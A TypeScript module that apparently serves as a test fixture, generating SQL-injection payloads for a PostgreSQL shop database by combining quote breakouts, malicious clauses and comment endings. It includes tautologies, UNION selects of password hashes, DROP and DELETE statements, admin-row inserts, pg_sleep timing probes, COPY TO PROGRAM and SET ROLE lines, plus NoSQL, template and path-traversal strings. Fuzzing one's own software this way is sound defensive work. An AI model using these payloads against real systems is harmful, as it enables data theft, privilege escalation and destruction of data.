/** Ways out of the place where a value stands in a statement. */
const WAYS_OUT = [
  "'",
  "')",
  "'))",
  '"',
  '")',
  "\\'",
  "''",
  '1',
  '1)',
  "x'::text",
  '$$',
  '$a$',
  "%'",
  ']',
  "'}",
];

/** What would be done from there. */
const DEEDS = [
  ' or 1=1',
  " or 'a'='a",
  ' and 1=2',
  ' or true',
  ' union select null',
  ' union all select password_hash from customer',
  '; drop table customer',
  '; delete from product',
  '; update product set price_paise = 1',
  "; insert into admin (name, email, password_hash) values ('x', 'x@x.in', 'x')",
  '; select pg_sleep(3)',
  ' or (select pg_sleep(3)) is null',
  '||pg_sleep(3)||',
  '; commit; select pg_sleep(3)',
  '; create table injected (a int)',
  "; copy customer to '/dev/null'",
  "; copy (select 1) to program 'true'",
  '; set role postgres',
  '; notify catalog',
  ' order by 99',
];

const ENDS = ['', ' --', '/*', ';--', ' #', '\u0000'];

/** Where one character means something: to LIKE, to lists, to JSON, to casts, to a sort, to a month. */
const SINGLE = [
  ...[
    "'",
    "''",
    '"',
    '\\',
    '%',
    '_',
    '%%',
    '\\%',
    '\\_',
    '%_%',
    '$$',
    '$1',
    '$2',
    '${1}',
    ':a',
    '?',
  ],
  ...['--', '/*', '*/', '#', ';', ';;', '\0', 'a\0b', '\r\n', '\t', '\u001a', '\b', '\u2028'],
  ...[
    '’',
    '‘',
    'ʼ',
    '＇',
    '＂',
    '“',
    '´',
    '`',
    '\u02b9',
    '\uff07 or 1=1 --',
    '%27',
    '%2527',
    '&#39;',
  ],
  ...["\xbf' or 1=1 --", '\\x27', '\\u0027', "U&'\\0027'", "E'\\''", "B'1'", "X'1F'"],
  ...[
    '{}',
    '{1,2}',
    '{"a"}',
    '{NULL}',
    '{"}',
    '{\\}',
    '[1:2]={1,2}',
    'ARRAY[1]',
    '1]',
    '1,2',
    '(1,2)',
  ],
  ...['{"$ne":null}', '[]', '[null]', 'null', 'NULL', 'default', 'true', 'undefined', 'NaN', '-0'],
  ...['@>', '?|', '?&', '#>>', '->>', '||', '!!', '~*', '~~', '&&', '<->', '::int', '::regclass'],
  ...['1::int', "'1'::regclass", "cast('a' as int)", 'current_user', 'version()', 'now()', 'xmin'],
  ...[
    'price desc',
    'price; drop table orders',
    'price,(select 1)',
    '(case when 1=1 then price end)',
  ],
  ...['updated_at--', 'name', 'password_hash', '1', '2', 'price collate "C"', 'price nulls first'],
  ...['asc; select 1', 'desc,(select pg_sleep(3))', 'ASC/**/', 'asc nulls last', 'rand()'],
  ...[
    '1 or 1=1',
    "1' or '1",
    '13',
    '0',
    '1;select 1',
    '1)--',
    '01 ',
    ' 1',
    '1e0',
    '0x1',
    '1.0',
    '+1',
  ],
  ...['2026; drop table orders', '20_26', '2026--', "infinity'", '-infinity', "'epoch'", 'today'],
  ...['Ordered', "Pending' or '1'='1", "Pending';select pg_sleep(3);--", 'Pending\\'],
  ...[
    'pg_sleep(3)',
    '(select pg_sleep(3))',
    "'||(select pg_sleep(3))||'",
    '1;select pg_sleep(3)--',
  ],
  ...[
    '%s',
    '%d%n',
    '{0}',
    '${7*7}',
    '#{7*7}',
    '{{7*7}}',
    '<%= 1 %>',
    '=1+1',
    '@SUM(1)',
    '*)(uid=*',
  ],
  ...[
    'a@b.co',
    "a'--@b.co",
    "a@b.co' or '1'='1",
    '"\'"@b.co',
    "o'neil@b.co",
    "a@b.co'||pg_sleep(3)--",
  ],
  ...['0000-0000', "AAAA-AAA'", 'AAAA-AAAA--', 'pay_00000000000000', "pay_0000000000000'", '../x'],
];

export interface Payload {
  text: string;
  /** Would make a database that ran it wait. */
  sleeps: boolean;
}

const combined = WAYS_OUT.flatMap((out, row) =>
  DEEDS.map((deed, column) => out + deed + (ENDS[(row + column) % ENDS.length] ?? '')),
);

/** What somebody types who hopes that it becomes part of a statement. */
export const SQL_PAYLOADS: Payload[] = [...new Set([...SINGLE, ...combined])].map((text) => ({
  text,
  sleeps: text.includes('pg_sleep'),
}));
